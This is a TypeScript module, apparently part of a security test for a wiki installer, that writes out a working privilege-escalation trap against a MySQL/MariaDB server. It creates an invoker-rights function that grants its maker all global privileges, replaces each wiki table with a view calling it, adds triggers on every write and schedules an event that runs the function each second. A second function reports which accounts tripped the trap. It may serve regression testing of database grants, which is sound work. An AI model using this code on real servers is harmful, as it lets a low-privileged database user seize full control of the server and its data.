/**
 * What a wiki's database user prepares who wants to be more: in the place of each table a view that runs a function
 * with the rights of whoever reads or writes there, and triggers that call it. The function gives its maker all rights.
 */
import type { Connection, RowDataPacket } from 'mysql2/promise'

type Ask = (statement: string) => Promise<readonly Record<string, unknown>[]>

/** What a release before this one gave on the wiki's own database. */
export const oldRights = 'ALL PRIVILEGES'

/** Puts as much of the trap there as the user's rights allow; returns the statements that went well. */
export async function prepareAttack(own: Connection, user: string): Promise<string[]> {
  const went: string[] = []
  const attempt = async (statement: string): Promise<void> => {
    await own.query(statement).then(
      () => went.push(statement),
      () => undefined,
    )
  }
  await attempt('CREATE TABLE IF NOT EXISTS seen (who VARCHAR(200)) ENGINE=MyISAM')
  await attempt(`CREATE FUNCTION rise() RETURNS INT SQL SECURITY INVOKER BEGIN
    DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
    INSERT INTO ${user}.seen VALUES (CURRENT_USER());
    UPDATE mysql.global_priv SET Priv = JSON_SET(Priv, '$.access', 18446744073709551615) WHERE User = '${user}';
    RETURN 1;
  END`)
  const [tables] = await own.query<RowDataPacket[]>(
    "SELECT TABLE_NAME AS name FROM information_schema.TABLES WHERE TABLE_SCHEMA = ? AND TABLE_TYPE = 'BASE TABLE'",
    [user],
  )
  for (const name of tables.map((row) => String(row['name'])).filter((each) => each !== 'seen')) {
    for (const event of ['INSERT', 'UPDATE', 'DELETE']) {
      await attempt(
        `CREATE TRIGGER rise_${name}_${event} BEFORE ${event} ON \`${name}\` FOR EACH ROW SET @x = rise()`,
      )
    }
    await attempt(`CREATE SQL SECURITY INVOKER VIEW trap AS SELECT * FROM \`${name}\` WHERE rise() = 1`)
    // Only with a view to put in its place.
    if (went.at(-1)?.includes('VIEW trap') !== true) continue
    await attempt('DROP VIEW trap')
    await attempt(`RENAME TABLE \`${name}\` TO \`real_${name}\``)
    await attempt(
      `CREATE SQL SECURITY INVOKER VIEW \`${name}\` AS SELECT * FROM \`real_${name}\` WHERE rise() = 1 WITH CHECK OPTION`,
    )
  }
  await attempt('CREATE EVENT rise_again ON SCHEDULE EVERY 1 SECOND DO SET @x = rise()')
  return went
}

/** Who has run into the trap, and the rights on the whole server that its maker has. */
export async function outcomeOf(root: Ask, user: string): Promise<{ seen: string[]; global: string[] }> {
  const there = await root(
    `SELECT 1 FROM information_schema.TABLES WHERE TABLE_SCHEMA = '${user}' AND TABLE_NAME = 'seen'`,
  )
  const seen = there.length === 0 ? [] : await root(`SELECT DISTINCT who FROM ${user}.seen`)
  // As it is written down, and would count from the next FLUSH PRIVILEGES on.
  const held = (await root(
    `SELECT JSON_VALUE(Priv, '$.access') AS access FROM mysql.global_priv WHERE User = '${user}'`,
  )) as readonly { access: string | null }[]
  return {
    seen: seen.map(({ who }) => String(who)),
    global: held.map(({ access }) => access ?? '0').filter((access) => access !== '0'),
  }
}
